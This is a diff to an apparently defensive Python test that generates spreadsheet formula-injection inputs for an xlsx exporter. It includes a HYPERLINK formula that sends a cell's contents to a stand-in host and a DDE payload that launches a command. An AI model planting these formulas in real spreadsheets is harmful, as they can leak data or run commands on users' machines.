@@ -19,7 +19,10 @@ from qingfeng.lib.xlsx import FORMULA_START
 
 HOSTILE = st.one_of(
     st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\x01", "\x0b", "\u202e"]).flatmap(
-        lambda start: st.text(min_size=1, max_size=30).map(lambda rest: start + rest)
+        # No NUL: the input rules refuse it, and PostgreSQL could never have stored one.
+        lambda start: st.text(
+            alphabet=st.characters(exclude_characters="\x00"), min_size=1, max_size=30
+        ).map(lambda rest: start + rest)
     ),
     st.just('=HYPERLINK("http://example.invalid/?"&B3,"点此查看")'),
     st.just("+cmd|' /C calc'!A0 欧阳老师"),
